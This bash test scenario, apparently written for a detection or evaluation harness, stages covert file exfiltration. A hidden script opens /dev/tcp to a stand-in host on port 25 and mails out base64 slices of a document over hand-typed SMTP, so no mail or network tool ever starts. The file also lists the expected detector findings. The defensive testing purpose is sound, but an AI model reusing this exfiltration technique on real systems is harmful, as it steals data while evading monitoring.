# No mail program at all: bash speaks SMTP through /dev/tcp in a background loop.
title="Bash speaks SMTP through /dev/tcp"
what="A background script of the buyer opens /dev/tcp/203.0.113.10/25 three times and speaks SMTP by hand, each time with a base64 slice of a document. No mail program and no network tool is started."
host=ws3.example.org user=buyer daemons="cron sshd"

setup() {
  head -c 9000 /dev/urandom > /home/buyer/contract.pdf
  cat > /home/buyer/.sync <<'P'
for part in 0 1 2; do
  exec 5<>/dev/tcp/203.0.113.10/25
  read -r _ <&5
  for line in "HELO ws3" "MAIL FROM:<buyer@example.org>" "RCPT TO:<d$part@example.net>" DATA; do printf '%s\r\n' "$line" >&5; read -r _ <&5; done
  { printf 'Subject: %s\r\n\r\n' "$part"; dd if=contract.pdf bs=3000 skip=$part count=1 2>/dev/null | base64; printf '.\r\n'; } >&5
  read -r _ <&5; printf 'QUIT\r\n' >&5; exec 5>&-
  sleep 2
done
P
  chown buyer: /home/buyer/contract.pdf /home/buyer/.sync
}
act() {
  small_talk 2
  ssh_run buyer 'setsid nohup bash .sync >/dev/null 2>&1 & sleep 9'
  small_talk 1
}
truth() {
  exec_step start 'bash .sync' 'the script starts, detached'
  net_step connect 'bash 203.0.113.10:25' 'the shell itself connects to port 25'
  exec_step encode 'base64' 'slices are encoded'
}
